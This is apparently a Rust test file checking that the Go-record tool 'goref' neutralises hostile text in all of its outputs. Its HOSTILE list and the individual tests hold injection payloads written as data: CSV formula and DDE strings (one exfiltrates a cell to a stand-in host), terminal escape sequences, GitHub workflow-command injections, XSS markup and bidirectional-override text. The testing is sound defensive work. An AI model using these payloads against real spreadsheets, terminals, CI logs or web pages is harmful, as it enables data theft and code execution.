//! Records written by strangers, against every output (issue 26, items 1 to 4): one list
//! of hostile strings ([`HOSTILE`]: formula starts, terminal escapes, line breaks, GitHub
//! workflow commands, markup, bidirectional overrides, backslashes) put into the players,
//! the result, the komi, the handicap, a move, a time and the file's name, then every
//! writer run over them: the text of validate, score, show and standings, the CSV of batch
//! and standings, JSON and JSON Lines, GitHub annotations, the Markdown summary, the HTML
//! report, SVG and the annotated copies. Each writer must keep the text from acting: no
//! control character, bidirectional override or line separator reaches its output raw,
//! no line of it starts with record text, no CSV cell starts a formula, no Markdown or
//! HTML from a record is live. The records are written by the tests, in temporary folders.

use std::path::{Path, PathBuf};

use serde_json::Value;

use crate::common::goref;

/// The hostile strings every writer is tested with.
const HOSTILE: &[&str] = &[
    // Spreadsheet formulas (OWASP's starts: `=`, `+`, `-`, `@`, tab, carriage return).
    "=HYPERLINK(\"http://x.invalid/?\"&A1,\"c\")",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1)",
    "\t=1+1",
    "\r=1+1",
    // Terminal escapes: OSC 52 writes the clipboard, CSI 2J clears the screen; C1 forms.
    "\x1b]52;c;aGVsbG8=\x07",
    "\x1b[2J\x1b[H",
    "\u{9b}2J \u{90}q\u{9c} \u{85}",
    "bell\x07 del\x7f soh\x01",
    // Record text starting a line of its own: GitHub Actions workflow commands.
    "x\n::error::pwned",
    "x\r\n::stop-commands::token",
    "x\r::add-mask::y",
    "%0A::error::encoded",
    "a\u{2028}b\u{2029}c",
    // Markup: XML, HTML, script, Markdown.
    "]]><x/>",
    "</script><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "[link](http://x.invalid/) ![i](http://x.invalid/i.png)",
    "# heading\n## two",
    "**bold** _em_ `code` | pipe | ~~s~~",
    "&amp; &lt;",
    // Text that reads otherwise than it is (Trojan Source), and the escape character.
    "\u{202e}gnp.exe\u{202c} \u{2066}iso\u{2069}",
    "back\\slash \\x1b",
];

/// `text` as an SGF property value: `\` and `]` escaped.
fn value(text: &str) -> String {
    text.replace('\\', "\\\\").replace(']', "\\]")
}

/// A file name made of `text`: what a file system refuses (`/`) replaced.
fn file_name(i: usize, text: &str) -> String {
    format!("{i:02}{}.sgf", text.replace('/', "_"))
}

/// The characters no output may carry raw: control characters (C0 but the line feed,
/// DEL, C1), the bidirectional embeddings, overrides and isolates, and the line and
/// paragraph separators.
fn is_unsafe(c: char) -> bool {
    (c.is_control() && c != '\n')
        || matches!(c, '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}' | '\u{2028}' | '\u{2029}')
}

/// `text` (what `what` wrote) carries no unsafe character, and no line of it (after
/// leading blanks) starts a GitHub workflow command.
fn assert_safe(what: &str, text: &str) {
    let lines: Vec<String> = text
        .split_inclusive('\n')
        .filter(|l| l.trim_end_matches('\n').chars().any(is_unsafe))
        .take(3)
        .map(|l| l.escape_debug().to_string())
        .collect();
    assert!(lines.is_empty(), "{what} writes raw:\n{}", lines.join("\n"));
    for line in text.lines() {
        assert!(
            !line.trim_start().starts_with("::"),
            "{what} writes a line that starts a workflow command: {line:?}"
        );
    }
}

/// A temporary folder holding one record per hostile string, named after it: the string
/// is Black's and White's name, the result, the komi, the handicap, a move and a time.
/// Moves 2 (the hostile value, off the board) and 3 (on an occupied point) are illegal.
fn hostile_records() -> tempfile::TempDir {
    let dir = tempfile::tempdir().expect("a temporary folder");
    for (i, text) in HOSTILE.iter().enumerate() {
        let v = value(text);
        let record = format!(
            "(;GM[1]FF[4]CA[UTF-8]SZ[9]KM[{v}]HA[{v}]PB[{v}]PW[{v}]RE[{v}]\n;B[ee];W[{v}];B[ee];W[dd]WL[{v}])\n"
        );
        std::fs::write(dir.path().join(file_name(i, text)), record).expect("a record");
    }
    dir
}

/// Run goref in `dir` with `args`: (standard output, standard error, exit code).
fn run_in(dir: &Path, args: &[&str]) -> (String, String, i32) {
    let output = goref()
        .current_dir(dir)
        .args(args)
        .output()
        .expect("goref runs");
    (
        String::from_utf8(output.stdout).expect("UTF-8 output"),
        String::from_utf8(output.stderr).expect("UTF-8 diagnostics"),
        output.status.code().unwrap_or(-1),
    )
}

/// The record files of `dir`, by name, sorted.
fn names(dir: &Path) -> Vec<String> {
    let mut names: Vec<String> = std::fs::read_dir(dir)
        .expect("the folder")
        .map(|e| {
            e.expect("an entry")
                .file_name()
                .into_string()
                .expect("UTF-8")
        })
        .filter(|n| n.ends_with(".sgf"))
        .collect();
    names.sort();
    names
}

/// The CSV `text`: its header and rows, each row's cell count checked.
fn csv_rows(what: &str, text: &str) -> (Vec<String>, Vec<Vec<String>>) {
    let mut reader = csv::Reader::from_reader(text.as_bytes());
    let header: Vec<String> = reader
        .headers()
        .expect("a header")
        .iter()
        .map(String::from)
        .collect();
    let rows: Vec<Vec<String>> = reader
        .records()
        .map(|r| {
            let r = r.unwrap_or_else(|e| panic!("{what}: not CSV: {e}"));
            assert_eq!(r.len(), header.len(), "{what}: a row of another width");
            r.iter().map(String::from).collect()
        })
        .collect();
    (header, rows)
}

/// No cell of `rows` starts as a spreadsheet formula (OWASP: `=`, `+`, `-`, `@`, tab,
/// carriage return) unless it is a number.
fn assert_no_formula(what: &str, header: &[String], rows: &[Vec<String>]) {
    for row in rows {
        for (name, cell) in header.iter().zip(row) {
            let number = cell.parse::<f64>().is_ok() && !cell.contains(['e', 'E', 'n', 'N', 'i']);
            assert!(
                number || !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                "{what}: the {name} cell {cell:?} starts a formula"
            );
        }
    }
}

/// Item 1: a player's name, a result or a file name that a spreadsheet reads as a formula
/// is written behind a `'` by `batch --csv` and `standings --format csv`; numbers stay
/// numbers (a negative komi, a name that is a plain number).
#[test]
fn csv_cells_never_start_a_formula() {
    let dir = tempfile::tempdir().expect("a temporary folder");
    let formulas = &HOSTILE[..6];
    for (i, text) in formulas.iter().enumerate() {
        let (black, white) = (value(text), value(formulas[(i + 1) % formulas.len()]));
        std::fs::write(
            dir.path()
                .join(file_name(i, text).trim_start_matches(|c: char| c.is_ascii_digit())),
            format!("(;GM[1]SZ[9]KM[-0.5]PB[{black}]PW[{white}]RE[B+R];B[ee])"),
        )
        .expect("a record");
    }
    std::fs::write(
        dir.path().join("number.sgf"),
        "(;GM[1]SZ[9]KM[-0.5]PB[-5]PW[+7.5]RE[W+R];B[ee])",
    )
    .expect("a record");
    let mut files = names(dir.path());
    files.retain(|n| n != "number.sgf");
    let (csv, _, code) = run_in(
        dir.path(),
        &[
            &["batch", "-q", "--csv", "-", "--"][..],
            &files.iter().map(String::as_str).collect::<Vec<_>>(),
        ]
        .concat(),
    );
    assert_eq!(code, 0, "{csv}");
    let (header, rows) = csv_rows("batch --csv", &csv);
    assert_eq!(rows.len(), formulas.len());
    assert_no_formula("batch --csv", &header, &rows);
    let column = |name: &str| header.iter().position(|h| h == name).expect("a column");
    let (file, black, komi) = (column("file"), column("black"), column("komi"));
    let first = rows
        .iter()
        .find(|r| r[black].contains("HYPERLINK"))
        .expect("the row of the first name");
    assert_eq!(first[black], "'=HYPERLINK(\"http://x.invalid/?\"&A1,\"c\")");
    assert_eq!(first[komi], "-0.5", "a negative komi stays a number");
    assert!(
        rows.iter()
            .any(|r| r[file] == "'=HYPERLINK(\"http:__x.invalid_?\"&A1,\"c\").sgf"),
        "the file column is neutralised too: {rows:?}"
    );
    assert!(
        rows.iter().any(|r| r[black] == "'=1+1"),
        "a name whose leading tab the loader trims is neutralised: {rows:?}"
    );

    let (csv, _, _) = run_in(dir.path(), &["batch", "-q", "--csv", "-", "number.sgf"]);
    let (header, rows) = csv_rows("batch --csv", &csv);
    assert_eq!(
        rows[0][header.iter().position(|h| h == "black").unwrap()],
        "-5"
    );
    assert_eq!(
        rows[0][header.iter().position(|h| h == "white").unwrap()],
        "+7.5"
    );

    let (csv, _, _) = run_in(
        dir.path(),
        &["standings", "--rules", "chinese", "--format", "csv", "."],
    );
    let (header, rows) = csv_rows("standings --format csv", &csv);
    assert_no_formula("standings --format csv", &header, &rows);
    let player = header.iter().position(|h| h == "player").expect("a column");
    assert!(
        rows.iter().any(|r| r[player] == "'@SUM(1)"),
        "the player is neutralised: {rows:?}"
    );
}

/// Item 2: escape sequences in the players' names, the result or a move value never
/// reach a terminal or a CSV file raw: validate, score, show and standings print them
/// escaped, as `\x1b`.
#[test]
fn terminal_escapes_are_shown_escaped() {
    let dir = tempfile::tempdir().expect("a temporary folder");
    std::fs::write(
        dir.path().join("esc.sgf"),
        "(;GM[1]SZ[9]KM[6.5]PB[\x1b\\]52;c;aGVsbG8=\x07]PW[\x1b[2J\u{9b}31m]RE[B+R\x1b[8m];B[ee];W[\x1b[5m])",
    )
    .expect("a record");
    std::fs::write(
        dir.path().join("other.sgf"),
        "(;GM[1]SZ[9]KM[6.5]PB[\x1b[2J\u{9b}31m]PW[\x1b\\]52;c;aGVsbG8=\x07]RE[W+R];B[ee])",
    )
    .expect("a record");
    for args in [
        &["validate", "esc.sgf"][..],
        &["score", "esc.sgf"],
        &["show", "esc.sgf"],
        &["show", "--ascii", "--final", "esc.sgf"],
        &["standings", "--rules", "chinese", "."],
        &["batch", "-q", "--csv", "-", "esc.sgf"],
    ] {
        let (out, err, _) = run_in(dir.path(), args);
        let what = args.join(" ");
        assert_safe(&what, &out);
        assert_safe(&what, &err);
        assert!(
            out.contains("\\x1b]52;c;aGVsbG8=\\x07"),
            "{what} shows the escape as text:\n{out}"
        );
    }
    let (out, _, _) = run_in(dir.path(), &["validate", "esc.sgf"]);
    assert!(out.contains("\\x1b[2J\\u{9b}31m"), "{out}");
}

/// Item 3: a line break in `SZ`, `KM`, `HA`, a move or a time never starts a line of its
/// own: the notes and findings of validate, score, show and standings quote the value on
/// one line, so no record can print a workflow command into a CI log.
#[test]
fn record_values_in_sentences_stay_on_one_line() {
    let dir = tempfile::tempdir().expect("a temporary folder");
    let bad = value("9\n::error::x");
    std::fs::write(
        dir.path().join("values.sgf"),
        format!("(;GM[1]SZ[9]KM[{bad}]HA[{bad}]PB[a]PW[b]RE[B+R];B[ee];W[{bad}];B[dd]BL[{bad}])"),
    )
    .expect("a record");
    std::fs::write(
        dir.path().join("size.sgf"),
        format!("(;GM[1]SZ[{bad}]PB[b]PW[a]RE[B+R];B[ee])"),
    )
    .expect("a record");
    for args in [
        &["validate", "values.sgf", "size.sgf"][..],
        &["score", "values.sgf", "size.sgf"],
        &["validate", "--format", "json", "values.sgf", "size.sgf"],
        &["show", "--move", "2", "values.sgf"],
        &["show", "--final", "values.sgf"],
        &["standings", "--rules", "chinese", "."],
    ] {
        let (out, err, _) = run_in(dir.path(), args);
        let what = args.join(" ");
        assert_safe(&what, &out);
        assert_safe(&what, &err);
    }
    let (out, _, _) = run_in(dir.path(), &["validate", "values.sgf", "size.sgf"]);
    for property in ["KM", "HA", "W", "SZ"] {
        assert!(
            out.lines()
                .any(|l| l.contains(&format!("{property}[9\\n::error::x]"))),
            "{property}'s value is quoted on one line:\n{out}"
        );
    }
    // JSON quotes it on one line too: the sentence holds no line break.
    let (out, _, _) = run_in(dir.path(), &["validate", "--format", "json", "values.sgf"]);
    let json: Value = serde_json::from_str(&out).expect("JSON");
    let sentences: Vec<&str> = json["games"][0]["findings"]
        .as_array()
        .expect("findings")
        .iter()
        .map(|f| f["detail"].as_str().expect("a detail"))
        .chain(
            json["games"][0]["warnings"]
                .as_array()
                .expect("warnings")
                .iter()
                .map(|w| w.as_str().expect("a warning")),
        )
        .collect();
    assert!(
        sentences.iter().any(|s| s.contains("9\\n::error::x")),
        "{sentences:?}"
    );
    for s in sentences {
        assert!(
            !s.contains(['\n', '\r']),
            "a sentence breaks its line: {s:?}"
        );
    }
}

/// Items 2 and 3 for the sentences that quote a value the loader could not use: a
/// property written twice (`SZ`, `PB`, `RE`), an `RE` goref cannot read and an `SZ` it
/// cannot read quote the record's value in its shown form, where a backslash the record
/// holds is doubled, so the text `\x1b` in a record never reads as the escape of an ESC.
#[test]
fn values_the_loader_cannot_use_are_quoted_shown() {
    let dir = tempfile::tempdir().expect("a temporary folder");
    // The text `\x1b`, then the character ESC.
    let raw = "\\x1b\x1b";
    let v = value(raw);
    std::fs::write(
        dir.path().join("twice.sgf"),
        format!("(;GM[1]SZ[9]SZ[9{v}]KM[6.5]PB[a]PB[b{v}]RE[B+{v}]RE[W+R];B[ee])"),
    )
    .expect("a record");
    std::fs::write(
        dir.path().join("size.sgf"),
        format!("(;GM[1]SZ[9{v}];B[ee])"),
    )
    .expect("a record");
    let shown = "\\\\x1b\\x1b";
    let (out, err, _) = run_in(dir.path(), &["validate", "twice.sgf", "size.sgf"]);
    assert_safe("validate", &out);
    assert_safe("validate", &err);
    for sentence in [
        format!("the root holds SZ[9] and SZ[9{shown}]: the first is used"),
        format!("PB is written twice, PB[a] and PB[b{shown}]: the first is used"),
        format!("RE is written twice, RE[B+{shown}] and RE[W+R]: the first is used"),
        format!("RE[B+{shown}] is not a result goref can read"),
        format!("SZ[9{shown}] is not a board size goref can read"),
    ] {
        assert!(out.contains(&sentence), "{sentence}\n{out}");
    }
}

/// The same for the values main's sentences quoted before this issue: a `GM` that is not
/// Go, a `CA` goref does not know and an `RE` that claims a count.
#[test]
fn gm_ca_and_a_claimed_count_are_quoted_shown() {
    let dir = tempfile::tempdir().expect("a temporary folder");
    // Each value holds the text `\x1b`, then the character ESC (`\x` in SGF is `x`
    // escaped: GM and CA are quoted as written, RE as read).
    for (name, record) in [
        ("gm.sgf", "(;GM[2\\x1b\x1b];B[ee])"),
        ("ca.sgf", "(;GM[1]CA[x\\x1b\x1b]SZ[9]PB[é];B[ee])"),
        ("count.sgf", "(;GM[1]SZ[9]RE[B+3.5\\\\x1b\x1b];B[ee])"),
    ] {
        std::fs::write(dir.path().join(name), record).expect("a record");
    }
    let (out, err, _) = run_in(dir.path(), &["validate", "gm.sgf", "ca.sgf", "count.sgf"]);
    assert_safe("validate", &out);
    assert_safe("validate", &err);
    for sentence in [
        "not a Go game (GM[2\\\\x1b\\x1b]; Go is GM[1])",
        "the file declares CA[x\\\\x1b\\x1b], a charset goref does not know",
        "RE[B+3.5\\\\x1b\\x1b] claims a count",
    ] {
        assert!(out.contains(sentence), "{sentence}\n{out}");
    }
}

/// The rows of the Markdown summary's table of failing rows, each split into its cells at
/// the pipes that are not escaped.
fn markdown_rows(md: &str) -> Vec<Vec<String>> {
    md.lines()
        .skip_while(|l| !l.starts_with("| file |"))
        .skip(2)
        .take_while(|l| l.starts_with('|'))
        .map(|line| {
            let mut cells = vec![String::new()];
            let mut escaped = false;
            for c in line.chars() {
                if c == '|' && !escaped {
                    cells.push(String::new());
                } else {
                    cells.last_mut().expect("a cell").push(c);
                }
                escaped = c == '\\' && !escaped;
            }
            assert_eq!(cells.len(), 7, "a row of five cells: {line}");
            cells[1..6].iter().map(|c| c.trim().to_string()).collect()
        })
        .collect()
}

/// `cell` is one code span: a fence of backticks, text, the same fence, and no run of
/// backticks inside as long as the fence (so nothing inside is Markdown or HTML).
fn is_code_span(cell: &str) -> bool {
    let fence = cell.len() - cell.trim_start_matches('`').len();
    if fence == 0 || cell.len() < 2 * fence || !cell.ends_with(&"`".repeat(fence)) {
        return false;
    }
    let inside = &cell[fence..cell.len() - fence];
    !inside.starts_with('`')
        && !inside.ends_with('`')
        && inside.split(|c| c != '`').all(|run| run.len() < fence)
}

/// Item 4: HTML, links and headings in a move value or `RE` are text in the
/// `--summary-md` summary: the record's text is only ever inside code spans, each row
/// stays one row of five cells, and nothing else in the page comes from a record.
#[test]
fn the_markdown_summary_shows_record_markup_as_text() {
    let dir = tempfile::tempdir().expect("a temporary folder");
    let markup = [
        "<img src=x onerror=alert(1)>",
        "[link](http://x.invalid/)",
        "# heading\n## two",
        "**bold** | pipe `x` ``y``",
        "</td></tr></table><h1>x</h1>",
    ];
    for (i, text) in markup.iter().enumerate() {
        let v = value(text);
        std::fs::write(
            dir.path().join(format!("{i}.sgf")),
            format!("(;GM[1]SZ[9]KM[6.5]PB[a]PW[b]RE[W+R {v}];B[ee];W[{v}];B[dd])"),
        )
        .expect("a record");
        // Counted (two passes) and won by Black, against `RE`'s claim: a mismatch.
        std::fs::write(
            dir.path().join(format!("re{i}.sgf")),
            format!("(;GM[1]SZ[9]KM[6.5]PB[a]PW[b]RE[W+3 {v}];B[ee];W[];B[])"),
        )
        .expect("a record");
    }
    let (md, _, code) = run_in(
        dir.path(),
        &[
            "batch",
            "-q",
            "--fail-on",
            "illegal,result-mismatch",
            "--summary-md",
            "-",
            ".",
        ],
    );
    assert_eq!(code, 1, "{md}");
    assert_safe("--summary-md", &md);
    let rows = markdown_rows(&md);
    assert_eq!(rows.len(), 2 * markup.len(), "{md}");
    for row in &rows {
        assert!(is_code_span(&row[0]), "the file is a code span: {row:?}");
        assert!(
            is_code_span(&row[4]),
            "the sentence is a code span: {row:?}"
        );
        for cell in &row[1..4] {
            assert!(
                !cell.contains(['<', '[', '`', '*', '#']),
                "a cell outside code spans holds markup: {row:?}"
            );
        }
    }
    for shown in [
        "W[<img src=x onerror=alert(1)>]",
        "RE[W+3 <img src=x onerror=alert(1)>]",
    ] {
        assert!(
            rows.iter().any(|r| r[4].contains(shown)),
            "{shown} is shown as written: {rows:?}"
        );
    }
    for line in md.lines() {
        assert!(
            line.is_empty()
                || line.starts_with("### goref batch: ")
                || line == "#### Rows that fail"
                || line.starts_with("| ")
                || line.starts_with("|---")
                || line.starts_with("Findings: "),
            "a line that goref does not write: {line:?}"
        );
    }
}

/// The annotations of `batch --annotate github`: every line one workflow command with
/// exactly a file and a title; its message, decoded as GitHub's runner decodes it, one
/// line with no control character.
fn assert_annotations(text: &str) {
    for line in text.lines() {
        let rest = line
            .strip_prefix("::error ")
            .unwrap_or_else(|| panic!("not an annotation: {line:?}"));
        let (properties, message) = rest.split_once("::").expect("properties, then ::");
        let keys: Vec<&str> = properties
            .split(',')
            .map(|p| p.split_once('=').expect("key=value").0)
            .collect();
        assert_eq!(keys, ["file", "title"], "{line:?}");
        let decoded = message
            .replace("%0D", "\r")
            .replace("%0A", "\n")
            .replace("%25", "%");
        assert!(
            !decoded.chars().any(|c| c.is_control()),
            "the message carries a control character once decoded: {line:?}"
        );
        assert!(
            !line.chars().any(is_unsafe),
            "the annotation carries an unsafe character: {line:?}"
        );
    }
}

/// The HTML report's data element parsed as JSON, as the page's script reads it.
fn report_data(html: &str) -> Value {
    const OPEN: &str = "<script id=\"report-data\" type=\"application/json\">";
    let start = html.find(OPEN).expect("the data element") + OPEN.len();
    let end = html[start..].find("</script>").expect("its end") + start;
    serde_json::from_str(&html[start..end]).expect("the data is JSON")
}

/// The values of every `C` property of `text`, as sgf-parse reads them.
fn comments(text: &str) -> Vec<String> {
    let mut out = Vec::new();
    let mut nodes: Vec<&sgf_parse::SgfNode<sgf_parse::go::Prop>> = Vec::new();
    let trees = sgf_parse::go::parse(text).expect("sgf-parse reads the copy");
    nodes.extend(trees.iter());
    while let Some(node) = nodes.pop() {
        for p in node.properties() {
            if let sgf_parse::go::Prop::C(c) = p {
                out.push(c.text.clone());
            }
        }
        nodes.extend(node.children());
    }
    out
}

/// Every copy under `dir`, recursively.
fn files_below(dir: &Path) -> Vec<PathBuf> {
    let mut out = Vec::new();
    let mut dirs = vec![dir.to_path_buf()];
    while let Some(d) = dirs.pop() {
        for entry in std::fs::read_dir(&d).expect("a folder") {
            let path = entry.expect("an entry").path();
            if path.is_dir() {
                dirs.push(path);
            } else {
                out.push(path);
            }
        }
    }
    out
}

/// Every writer, run over the records of [`HOSTILE`] in one folder: the text of validate,
/// score, show and standings; JSON; the batch's CSV, JSON Lines, GitHub annotations,
/// Markdown summary, HTML report and annotated copies; SVG. JSON carries the record's
/// text as data (the loader's value, escaped as JSON escapes it); every other output
/// shows it escaped.
#[test]
fn every_writer_keeps_every_hostile_string_from_acting() {
    let dir = hostile_records();
    let files = names(dir.path());
    assert_eq!(files.len(), HOSTILE.len());
    let all: Vec<&str> = files.iter().map(String::as_str).collect();
    let with = |args: &[&'static str]| -> Vec<&str> { args.iter().chain(&all).copied().collect() };

    for args in [
        with(&["validate"]),
        with(&["score"]),
        with(&["score", "--rules", "japanese,aga"]),
        vec!["standings", "--rules", "chinese", "."],
    ] {
        let (out, err, code) = run_in(dir.path(), &args);
        let what = args[..2].join(" ");
        assert!(matches!(code, 0 | 1), "{what}: exit {code}: {err}");
        assert_safe(&what, &out);
        assert_safe(&what, &err);
    }
    // The text names each file, as written: one heading per record.
    let (out, _, _) = run_in(dir.path(), &with(&["validate"]));
    assert!(out.contains("back\\\\slash \\\\x1b"), "{out}");
    assert!(out.contains("\\u{202e}gnp.exe\\u{202c}"), "{out}");
    assert_eq!(
        out.lines().filter(|l| l.contains(", game 1: ")).count(),
        HOSTILE.len(),
        "{out}"
    );

    // JSON: the data as the loader read it, in bytes a terminal cannot act on.
    for args in [
        with(&["validate", "--format", "json"]),
        with(&["score", "--format", "json"]),
        vec!["standings", "--rules", "chinese", "--format", "json", "."],
    ] {
        let (out, _, _) = run_in(dir.path(), &args);
        assert_safe(&args[..3].join(" "), &out);
        serde_json::from_str::<Value>(&out).expect("JSON");
    }
    let (out, _, _) = run_in(dir.path(), &with(&["validate", "--format", "json"]));
    let json: Value = serde_json::from_str(&out).expect("JSON");
    for (game, file) in json["games"].as_array().expect("games").iter().zip(&files) {
        let bytes = std::fs::read(dir.path().join(file)).expect("the record");
        let record = goref::sgf::load(&bytes).expect("readable")[0]
            .clone()
            .expect("a game");
        assert_eq!(game["file"], file.as_str());
        assert_eq!(game["black"].as_str(), record.black.as_deref(), "{file:?}");
        assert_eq!(
            game["recorded_result"].as_str(),
            record.result.as_deref(),
            "{file:?}"
        );
    }

    // One batch: CSV, JSON Lines, annotations, summary, report and copies.
    let out = tempfile::tempdir().expect("a temporary folder");
    let (csv_path, jsonl, html, md, copies) = (
        out.path().join("rows.csv"),
        out.path().join("rows.jsonl"),
        out.path().join("report.html"),
        out.path().join("summary.md"),
        out.path().join("copies"),
    );
    let (annotations, err, code) = run_in(
        dir.path(),
        &[
            &[
                "batch",
                "-q",
                "--rules",
                "chinese,japanese",
                "--fail-on",
                "illegal,unreadable,result-mismatch,truncated",
                "--annotate",
                "github",
            ][..],
            &[
                "--csv",
                csv_path.to_str().unwrap(),
                "--jsonl",
                jsonl.to_str().unwrap(),
                "--html",
                html.to_str().unwrap(),
                "--summary-md",
                md.to_str().unwrap(),
                "--annotate-dir",
                copies.to_str().unwrap(),
            ],
            &all,
        ]
        .concat(),
    );
    assert_eq!(code, 1, "{err}");
    assert_safe("batch's diagnostics", &err);
    assert_annotations(&annotations);
    assert!(
        annotations.lines().count() >= 2 * HOSTILE.len(),
        "two illegal moves a record: {annotations}"
    );
    assert!(
        annotations.contains("%250A::error::encoded"),
        "a `%` of the record is the runner's %25:\n{annotations}"
    );

    let csv = std::fs::read_to_string(&csv_path).expect("the CSV");
    assert_safe("batch --csv", &csv);
    let (header, rows) = csv_rows("batch --csv", &csv);
    assert_eq!(rows.len(), 2 * HOSTILE.len(), "one row a game and rule set");
    assert_no_formula("batch --csv", &header, &rows);

    let lines = std::fs::read_to_string(&jsonl).expect("the JSON Lines");
    assert_safe("batch --jsonl", &lines);
    assert_eq!(lines.lines().count(), 2 * HOSTILE.len() + 1);
    for line in lines.lines() {
        serde_json::from_str::<Value>(line).expect("each line is JSON");
    }

    let summary = std::fs::read_to_string(&md).expect("the summary");
    assert_safe("--summary-md", &summary);
    let rows = markdown_rows(&summary);
    assert_eq!(rows.len(), 2 * HOSTILE.len(), "{summary}");
    for row in rows {
        assert!(is_code_span(&row[0]) && is_code_span(&row[4]), "{row:?}");
    }

    let page = std::fs::read_to_string(&html).expect("the page");
    assert_safe("--html", &page);
    assert_eq!(
        page.matches("</script").count(),
        2,
        "only goref's script elements end"
    );
    let data = report_data(&page);
    assert_eq!(
        data["rows"].as_array().expect("rows").len(),
        2 * HOSTILE.len()
    );
    assert!(
        !data["boards"].as_array().expect("boards").is_empty(),
        "the failing rows have boards"
    );
    for board in data["boards"].as_array().expect("boards") {
        let svg = board.as_str().expect("inline SVG");
        assert_safe("--html's boards", svg);
        roxmltree::Document::parse(svg).expect("each board is XML");
    }

    let copies = files_below(&copies);
    assert_eq!(copies.len(), HOSTILE.len(), "a copy a record");
    for copy in copies {
        let text = std::fs::read_to_string(&copy).expect("the copy");
        for comment in comments(&text) {
            assert_safe(&format!("the copy {}", copy.display()), &comment);
        }
    }

    // show: the text and the SVG of each record.
    for file in &files {
        for args in [
            &["show", file.as_str()][..],
            &["show", "--final", "--ascii", file.as_str()],
        ] {
            let (out, err, _) = run_in(dir.path(), args);
            assert_safe(&format!("show {file:?}"), &out);
            assert_safe(&format!("show {file:?}"), &err);
        }
        let (svg, _, _) = run_in(dir.path(), &["show", "--svg", "-", file.as_str()]);
        assert_safe(&format!("show --svg {file:?}"), &svg);
        let doc = roxmltree::Document::parse(&svg).expect("the SVG is XML");
        let title = doc
            .descendants()
            .find(|n| n.has_tag_name("title"))
            .and_then(|n| n.text())
            .expect("a title");
        assert!(title.contains(", game 1: "), "{title}");
    }
}
